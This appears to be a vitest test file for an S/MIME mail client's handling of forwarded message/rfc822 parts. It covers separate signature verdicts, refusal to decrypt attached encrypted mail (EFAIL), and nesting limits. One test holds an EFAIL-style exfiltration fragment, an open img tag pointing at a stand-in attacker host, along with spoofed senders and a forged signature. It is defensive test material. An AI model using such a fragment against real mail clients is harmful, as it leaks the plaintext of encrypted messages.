/**
 * Attached messages (issue 15, point 6): a message/rfc822 part is read apart from the message
 * that carries it, with its own headers, text, attachments and verdict, which never merges
 * into the outer one. An attached encrypted message is never decrypted (EFAIL), and hostile
 * nesting is bounded in depth and in the number of parts read. S/MIME inner mail is openssl's.
 */
import { describe, expect, test } from 'vitest';
import { freshDesk } from '../desk/receive-helpers';
import { text } from '../smime/helpers';
import { cms, content, encryptTo, loadPki, signAs } from '../smime/mail';
import { dated, soon } from '../smime/mail-now';
import { MAX_ATTACHED_DEPTH, MAX_NESTED_PARTS } from '../../src/lib/smime/incoming-nested';

const ALICE = 'alice@sealdesk.test';

/** A message carrying `inner` as a message/rfc822 part after a text part. */
function forwarding(inner: string | Uint8Array, words = 'See the forwarded mail below.', disposition = '', b = 'fw-b'): string {
	const body = typeof inner === 'string' ? inner : new TextDecoder('latin1').decode(inner);
	return (
		`MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n` +
		`--${b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${words}\r\n` +
		`--${b}\r\nContent-Type: message/rfc822\r\n${disposition}\r\n${body}\r\n--${b}--\r\n`
	);
}

const plainInner =
	'From: Carol <carol@sealdesk.test>\r\nTo: alice@sealdesk.test\r\nSubject: Original question\r\nDate: Mon, 30 Nov 2026 10:00:00 +0000\r\n' +
	'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="in-b"\r\n\r\n' +
	'--in-b\r\nContent-Type: text/plain\r\n\r\nINNER-TEXT: where is my order?\r\n' +
	'--in-b\r\nContent-Type: text/csv; name="order.csv"\r\nContent-Disposition: attachment; filename="order.csv"\r\n\r\nid,qty\r\n1,2\r\n' +
	'--in-b--\r\n';

async function desk(): Promise<Awaited<ReturnType<typeof freshDesk>>['desk']> {
	const { desk: d } = await freshDesk({ now: soon() });
	await loadPki(d, ['bob']);
	return d;
}

describe('a forwarded mail', () => {
	test('is shown apart with its headers, text and attachments; the .eml download stays', async () => {
		const d = await desk();
		const a = await d.receive(dated(forwarding(plainInner), { from: ALICE, subject: 'Fwd: Original question' }));
		expect(a.text).toContain('See the forwarded mail below.');
		expect(a.text).not.toContain('INNER-TEXT');
		expect(a.attachments.map((x) => [x.name, x.type])).toContainEqual(['message.eml', 'message/rfc822']);
		const [section] = a.sections ?? [];
		expect(section).toMatchObject({
			kind: 'message',
			path: '2',
			headers: { from: { name: 'Carol', address: 'carol@sealdesk.test' }, subject: 'Original question', date: '2026-11-30T10:00:00.000Z' },
			security: { sign: { status: 'none' }, encryption: { status: 'none' } }
		});
		expect(section?.text).toContain('INNER-TEXT: where is my order?');
		expect(section?.attachments).toEqual([{ index: 0, name: 'order.csv', type: 'text/csv', size: 11 }]);
		const csv = await d.getSectionAttachment(a.id, '2', 0);
		expect(new TextDecoder().decode(csv ?? new Uint8Array())).toMatch(/^id,qty\r?\n1,2\r?\n?$/);
		expect(await d.getSectionAttachment(a.id, '9', 0)).toBeNull();
	});

	test('as an attachment with Content-Disposition is shown too', async () => {
		const d = await desk();
		const a = await d.receive(dated(forwarding(plainInner, 'fyi', 'Content-Disposition: attachment; filename="question.eml"\r\n'), { from: ALICE }));
		expect(a.sections?.[0]?.text).toContain('INNER-TEXT');
		expect(a.attachments.some((x) => x.name === 'question.eml')).toBe(true);
	});
});

describe('an attached signed mail', () => {
	test('has its own verdict, which never merges into the unsigned outer message', async () => {
		const d = await desk();
		const inner = dated(cms(signAs('alice'), content('ALICE-SIGNED')), { from: ALICE, subject: 'Signed original' });
		const a = await d.receive(dated(forwarding(inner), { from: 'mallory@evil.test' }));
		expect(a.security.sign).toEqual({ status: 'none', comment: 'The message is not signed.' });
		expect(a.security.layers).toEqual([]);
		expect(a.security.parts).toBeUndefined();
		const [section] = a.sections ?? [];
		expect(section?.security.sign).toEqual({ status: 'valid', signer: ALICE, comment: '/CN=Sealdesk Test Root CA/O=Sealdesk Test' });
		expect(section?.text).toContain('ALICE-SIGNED');
		expect(a.text).not.toContain('ALICE-SIGNED');
		// The outer message is not a valid signed mail: nothing is learned from the attached one.
		expect((await d.logs()).some((l) => l.operation === 'learn-certificate')).toBe(false);
	});

	test('an invalid outer signature and a valid attached one stay apart', async () => {
		const d = await desk();
		const inner = dated(cms(signAs('alice'), content('inner')), { from: ALICE });
		const outer = text(cms(signAs('carol'), forwarding(inner))).replace('See the forwarded', 'See the FORGED');
		const a = await d.receive(dated(outer, { from: 'carol@sealdesk.test' }));
		expect(a.security.sign.status).toBe('invalid');
		expect(a.sections?.[0]?.security.sign.status).toBe('valid');
	});
});

describe('EFAIL and bounds', () => {
	test('an attached encrypted mail is never decrypted, though bob\'s key is stored', async () => {
		const d = await desk();
		const inner = dated(cms([...encryptTo('bob'), '-aes256'], content('TOP-SECRET')), { from: ALICE });
		const a = await d.receive(dated(forwarding(inner, '<img src="http://attacker.test/?'), { from: 'mallory@evil.test' }));
		expect(a.sections?.[0]?.security.encryption).toEqual({
			status: 'failed',
			comment: 'The attached message is encrypted. It was not decrypted: only a message received on its own is.'
		});
		expect(JSON.stringify(a)).not.toContain('TOP-SECRET');
	});

	test(`attached messages are read ${String(MAX_ATTACHED_DEPTH)} deep, no deeper`, async () => {
		const d = await desk();
		let mail: string = 'From: x@sealdesk.test\r\nSubject: level 8\r\n\r\nDEEPEST\r\n';
		for (let level = 7; level >= 1; level--) mail = `From: x@sealdesk.test\r\nSubject: level ${String(level)}\r\n${forwarding(mail, `LEVEL-${String(level)}`, '', `b${String(level)}`)}`;
		const a = await d.receive(dated(forwarding(mail, 'outer'), { from: ALICE }));
		expect(a.sections?.map((s) => s.path)).toEqual(['2', '2/2', '2/2/2']);
		expect(a.sections?.map((s) => s.headers?.subject)).toEqual(['level 1', 'level 2', 'level 3']);
		expect(JSON.stringify(a.sections)).not.toContain('DEEPEST');
	});

	test(`at most ${String(MAX_NESTED_PARTS)} nested parts are read per message, attached messages included`, async () => {
		const d = await desk();
		const signed = text(cms(signAs('alice'), content('many')));
		const parts = Array.from({ length: 40 }, (_, i) => (i % 2 === 0 ? `--m\r\n${signed}\r\n` : `--m\r\nContent-Type: message/rfc822\r\n\r\n${forwarding(plainInner)}\r\n`));
		const mail = `Content-Type: multipart/mixed; boundary="m"\r\n\r\n${parts.join('')}--m--\r\n`;
		const a = await d.receive(dated(mail, { from: ALICE }));
		expect(a.sections?.length).toBe(MAX_NESTED_PARTS);
		expect(a.security.sign.status).toBe('none');
	});
});
